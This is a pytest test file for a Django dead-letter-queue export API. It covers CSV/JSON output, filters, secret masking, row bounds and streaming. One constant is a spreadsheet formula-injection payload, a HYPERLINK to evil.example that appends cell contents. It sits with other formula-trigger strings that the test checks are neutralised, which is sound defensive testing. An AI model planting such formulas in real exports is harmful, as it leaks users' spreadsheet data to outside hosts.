"""Exports of dead letters: what they hold, for whom, and that they are bounded."""

import csv
import io
import json
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from dlq.models import DeadLetter
from tasks import lifecycle
from tasks.contract import dead_letter_export
from tasks.contract.dead_letter_export import COLUMNS, cell
from tasks.models import Task
from tasks.states import Status
from tests import factories
from tests.api.described import assert_fits
from tests.callers import assert_problem, let_see_payloads
from tests.commands.cli import callboard, refused

pytestmark = pytest.mark.django_db

URL = "/api/v1/dlq/export"
SECRET = "hunter2-swordfish"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'


def make(**fields: Any) -> DeadLetter:
    return factories.open_letter(factories.make_task(Status.DEAD, **fields))


def body_of(response: Any) -> str:
    assert response.status_code == 200, response.content
    # A caller of the API has read it.
    return bytes(b"".join(response.streaming_content) if response.streaming else response.content).decode()


def as_json(caller: Any, **filters: Any) -> dict[str, Any]:
    body = json.loads(body_of(caller.get(URL, filters)))
    assert_fits("DeadLetterExport", body)
    return dict(body)


def as_csv(text: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(COLUMNS)
    return [dict(zip(COLUMNS, row, strict=False)) for row in rows[1:]]


@pytest.fixture
def chief(staff):
    let_see_payloads(staff.user)
    return staff


def test_an_export_has_each_dead_letter_with_its_payload(chief, worker):
    first, second = make(worker=worker, payload={"do": "fail", "value": "ü"}), make(worker=worker)
    body = as_json(chief)
    assert [one["id"] for one in body["results"]] == [str(second.pk), str(first.pk)]
    assert body["note"] is None
    listed = chief.get("/api/v1/dlq").json()["results"][1]
    exported = body["results"][1]
    assert {name: exported[name] for name in COLUMNS if name in listed} == {
        name: listed[name] for name in COLUMNS if name in listed
    }
    assert exported["payload"] == {"do": "fail", "value": "ü"}
    assert exported["error_type"] == listed["error"]["type"]
    response = chief.get(URL, {"format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="dead-letters.csv"'
    rows = as_csv(body_of(response))
    assert [row["id"] for row in rows] == [str(second.pk), str(first.pk)]
    assert json.loads(rows[1]["payload"]) == {"do": "fail", "value": "ü"}
    assert as_json(chief, resolution="discarded") == {"results": [], "note": None}
    assert as_csv(body_of(chief.get(URL, {"format": "CSV", "actor": "other"}))) == []


def test_an_export_has_the_rows_of_its_filters(chief, worker):
    letters = [make(worker=worker) for _ in range(2)]
    lifecycle.discard(letters[0].pk)
    assert [one["id"] for one in as_json(chief, resolution="open")["results"]] == [str(letters[1].pk)]
    assert len(as_json(chief, failure=letters[0].fingerprint)["results"]) == 2


@pytest.mark.parametrize(
    ("filters", "field"),
    [({"format": "xls"}, "format"), ({"limit": 5}, "limit"), ({"cursor": "x"}, "cursor"), ({"reason": "b"}, "reason")],
)
def test_a_bad_export_is_a_400(chief, filters, field):
    assert_problem(chief.get(URL, filters), 400, field=field)


def test_formulas_are_neutralised(chief, worker):
    letter = make(worker=worker)
    for evil in (FORMULA, "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"):
        DeadLetter.objects.filter(pk=letter.pk).update(error_message=evil, error_type=evil, queue=evil)
        (row,) = as_csv(body_of(chief.get(URL, {"format": "csv"})))
        assert {row["error_message"], row["error_type"], row["queue"]} == {f"'{evil}"}
    assert (cell(7), cell(-7), cell("a=1"), cell(None)) == ("7", "-7", "a=1", "")


def test_secrets_are_masked_for_all_but_the_owner(chief, alice, bob, worker):
    payload = {"user": "ada", "password": SECRET}
    make(worker=worker, actor="login", payload=payload, owner_id=alice.user.pk)
    DeadLetter.objects.update(error_message=f"refused {SECRET}")
    for form in ("json", "csv"):
        text = body_of(chief.get(URL, {"format": form}))
        assert "ada" in text
        assert SECRET not in text
    assert as_json(alice)["results"][0]["payload"] == payload
    assert as_json(bob)["results"] == []


def test_those_who_do_not_see_payloads_get_none(viewer, worker):
    make(worker=worker, payload={"do": "fail", "value": "private"})
    page = viewer.get(reverse("admin:dlq_deadletter_export", args=["json"]))
    (row,) = json.loads(body_of(page))["results"]
    assert (row["payload"], row["error_message"]) == (None, None)


def test_more_rows_than_the_bound_are_cut_with_a_sentence(chief, worker, monkeypatch):
    monkeypatch.setattr(dead_letter_export.find, "__kwdefaults__", {"most": 2})
    letters = [make(worker=worker) for _ in range(3)]
    body = as_json(chief)
    assert [one["id"] for one in body["results"]] == [str(letters[2].pk), str(letters[1].pk)]
    assert "Only the newest 2 are here" in body["note"]
    assert as_csv(body_of(chief.get(URL, {"format": "csv"})))[-1]["id"] == body["note"]


def test_a_long_cell_is_cut_and_a_removed_task_has_no_payload(chief, worker):
    letter = make(worker=worker, payload={"do": "fail", "value": "x" * 40_000})
    (row,) = as_csv(body_of(chief.get(URL, {"format": "csv"})))
    assert len(row["payload"]) < 32_100
    assert row["payload"].endswith("more characters")
    Task.objects.filter(pk=letter.task_id).delete()
    assert as_json(chief)["results"][0]["payload"] is None


def test_rows_are_read_in_chunks(root, worker, monkeypatch):
    monkeypatch.setattr(dead_letter_export, "CHUNK", 2)
    for _ in range(5):
        make(worker=worker)
    response = root.get(URL)
    with CaptureQueriesContext(connection) as captured:
        pieces = iter(response.streaming_content)
        assert next(pieces) == b'{"results":['
        assert len(captured) == 0
        next(pieces)
        read = len(captured)
        assert sum(1 for _ in pieces) == 5
        assert len(captured) == 3 * read
    DeadLetter.objects.all().delete()


def test_a_dead_letter_that_goes_meanwhile_is_left_out(root, worker):
    make(worker=worker)
    response = root.get(URL)
    DeadLetter.objects.all().delete()
    assert json.loads(body_of(response)) == {"results": [], "note": None}


def test_the_admin_exports_the_list_as_it_is_filtered(root, worker):
    letters = [make(worker=worker) for _ in range(2)]
    lifecycle.discard(letters[0].pk)
    address = reverse("admin:dlq_deadletter_export", args=["csv"])
    page = root.get(reverse("admin:dlq_deadletter_changelist"), {"resolution": "DISCARDED"}).content.decode()
    assert f"{address}?resolution=DISCARDED" in page
    for query, expected in (({}, [1]), ({"resolution": "DISCARDED"}, [0]), ({"resolution": "all"}, [1, 0])):
        rows = as_csv(body_of(root.get(address, query)))
        assert [row["id"] for row in rows] == [str(letters[place].pk) for place in expected]
    assert as_csv(body_of(root.get(address, {"q": str(letters[0].pk)}))) == []
    assert len(as_csv(body_of(root.get(address, {"resolution__exact": "x"})))) == 1
    assert root.get(reverse("admin:dlq_deadletter_export", args=["xls"])).status_code == 404


def test_the_command_line_prints_csv(worker):
    make(worker=worker, actor="login", payload={"user": "ada", "password": SECRET})
    make(worker=worker)
    text = callboard("dlq", "list", "--csv", "--actor", "login")
    assert "ada" in text
    assert SECRET not in text
    assert len(as_csv(text)) == 1
    assert SECRET in callboard("dlq", "list", "--csv", "--show-secrets")
    assert "Only the newest 1 are here" in callboard("dlq", "list", "--csv", "--limit", "1")
    assert "got two of them" in refused("dlq", "list", "--csv", "-q")[0]
